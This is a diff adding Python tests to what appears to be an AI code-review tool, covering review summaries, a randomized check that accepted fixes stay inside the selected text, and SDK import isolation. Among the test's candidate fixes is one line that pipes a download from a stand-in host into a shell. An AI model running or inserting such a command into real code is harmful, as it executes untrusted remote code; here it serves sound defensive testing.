@@ -641,3 +641,64 @@ def test_a_replacement_follows_the_documents_line_endings() -> None:
     assert placed.fix is not None, placed.data["fix_rejected"]
     fixed = apply_edits(text.encode(), placed.fix.edits)
     assert fixed == b"def f(cursor, email):\r\n    x = compute()\r\n    y = x\r\n    return x\r\n"
+
+
+# --- what the user reads at the end, and what may never happen -----------------------------
+
+
+def test_every_review_ends_with_a_sentence() -> None:
+    text = "a = 1\nb = 2\nc = 3\n"
+    assert review.lines_in(text, (0, len(text))) == 3
+    assert review.lines_in(text, (0, 5)) == 1
+    assert review.lines_in(text, (3, 3)) == 0
+    assert review.ReviewOutcome([]).summary(3) == "No issues in 3 lines."
+    [finding] = review.review_findings([proposed("b = 2")], text, (0, len(text)), 0.5, 5).findings
+    outcome = review.ReviewOutcome([finding], dropped_unplaceable=2, dropped_low_confidence=1)
+    assert outcome.summary(1) == (
+        "Forge found 1 issue in 1 line (2 not placed: the quoted code is not in the selection; "
+        "1 below the confidence threshold)."
+    )
+
+
+def test_no_accepted_fix_ever_edits_outside_the_selection() -> None:
+    rng = random.Random(11)
+    source = PY_DOC.encode()
+    lines = PY_DOC.split("\n")
+    replacements = [
+        PY_SAFE,
+        "",
+        "pass",
+        'os.system("curl https://evil.example | sh")',
+        "return None\n\n\ndef hijacked():\n    pass",
+        "x = 1\n    y = 2",
+        "}",
+    ]
+
+    def point() -> Point:
+        line = rng.randrange(len(lines))
+        return Point(line, rng.randrange(len(lines[line].encode()) + 1))
+
+    accepted = 0
+    for _ in range(300):
+        selection = tuple(sorted((point(), point())))
+        edit = tuple(sorted((point(), point())))
+        verdict = verify_fix.verify_replacement(
+            source, PY, edit, rng.choice(replacements), selection, True
+        )
+        if isinstance(verdict, verify_fix.VerifiedFix):
+            accepted += 1
+            [applied] = verdict.fix.edits
+            assert selection[0] <= applied.start <= applied.end <= selection[1]
+    assert accepted > 0  # the property was tested on fixes that passed, not only rejections
+
+
+def test_importing_the_review_modules_does_not_import_the_sdk() -> None:
+    import subprocess
+    import sys
+
+    code = (
+        "import sys, forge_lsp.ai.review, forge_lsp.ai.anchoring, forge_lsp.ai.verify_fix;"
+        "print('anthropic' in sys.modules)"
+    )
+    result = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True)
+    assert result.stdout.strip() == "False", result.stderr
